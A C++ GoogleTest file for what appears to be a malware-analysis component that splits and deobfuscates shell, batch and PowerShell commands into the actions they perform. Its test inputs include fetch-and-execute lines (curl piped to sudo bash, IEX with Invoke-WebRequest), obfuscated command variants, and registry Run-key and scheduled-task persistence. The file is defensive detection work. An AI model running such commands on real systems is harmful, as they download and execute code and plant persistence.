#include <gtest/gtest.h>

#include "interpret/command_acts.h"
#include "interpret/command_text.h"

namespace antivenom::interpret {
namespace {

std::string shown(std::string_view text, bool windows) {
  std::string out;
  for (const ShellCommand& command : split_commands(text, windows)) {
    out += command.piped ? "|" : ";";
    for (const std::string& word : command.words) out += "<" + word + ">";
    if (!command.output.empty()) out += " to " + command.output;
  }
  return out;
}

std::string shown_acts(std::string_view text, std::string_view language) {
  std::string out;
  for (const Act& act : acts_of(text, language)) {
    out += act.callee + (act.from_before ? " <-" : "");
    for (const std::string& argument : act.arguments) out += " " + argument;
    if (!act.file.empty()) out += " > " + act.file;
    out += "\n";
  }
  return out;
}

TEST(Commands, words_of_sh_and_cmd) {
  EXPECT_EQ(shown("echo 'a b' \"c\\\"d\" | tee x > /tmp/y && ls", false), ";<echo><a b><c\"d>|<tee><x> to /tmp/y;<ls>");
  EXPECT_EQ(shown("U=http://example.com; cur\\l${IFS}$U $(printf '\\x2dO')", false), ";<curl><http://example.com><-O>");
  EXPECT_EQ(shown("po^wer^shell -c \"a 'b'\" & del C:\\x", true), ";<powershell><-c><a 'b'>;<del><C:\\x>");
  EXPECT_EQ(shown("", false), "");
}

TEST(Commands, powershell_is_made_plain) {
  EXPECT_EQ(plain_powershell("I`E`X ('ht'+'tp' + '://x')"), "IEX  'http://x' ");
  EXPECT_EQ(plain_powershell("\"{1}{0}\" -f 'b','a'"), "'ab'");
  EXPECT_EQ(plain_powershell("[char]105+[char]0x65+[char](120)"), "'iex'");
  EXPECT_EQ(plain_powershell("('a','b' -join '')"), "('a','b' -join '')");
  EXPECT_EQ(plain_powershell("('a','b') -join ''"), "'ab'");
  EXPECT_EQ(plain_powershell("'hZZp'.replace('Z','t')"), "'http'");
  EXPECT_EQ(plain_powershell("$a = 'x.exe'; Start-Process $a"), "$a = 'x.exe'; Start-Process 'x.exe'");
  EXPECT_EQ(plain_powershell("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGk='))"), "'hi'");
  EXPECT_EQ(plain_powershell("[System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aABpAA=='))"),
            "'hi'");
}

TEST(Commands, acts_of_scripts) {
  EXPECT_EQ(shown_acts("curl -s http://example.com/i.sh | sudo bash; rm -f x", "shell"),
            "shell:curl http://example.com/i.sh -s\nshell:sh <-\nshell:rm -f x\n");
  EXPECT_EQ(shown_acts("iwr http://example.com/q -OutFile q.exe; Start-Process q.exe", "powershell"),
            "powershell:Invoke-WebRequest http://example.com/q > q.exe\npowershell:Start-Process q.exe\n");
  EXPECT_EQ(
      shown_acts("IEX (iwr 'http://example.com/s')", "powershell"),
      "powershell:Invoke-WebRequest http://example.com/s\npowershell:Invoke-Expression <- http://example.com/s\n");
  EXPECT_EQ(shown_acts("reg add HKCU\\Run /v x\r\nschtasks /create", "batch"),
            "batch:reg add add HKCU\\Run /v x\nbatch:schtasks /create\n");
  EXPECT_EQ(shown_acts("$iex = 1", "powershell"), "");
}

TEST(Commands, base64_and_utf16) {
  EXPECT_EQ(from_utf16(from_base64("aABpAA==")), "hi");
  EXPECT_EQ(from_base64("no base64!"), "");
}

}  // namespace
}  // namespace antivenom::interpret
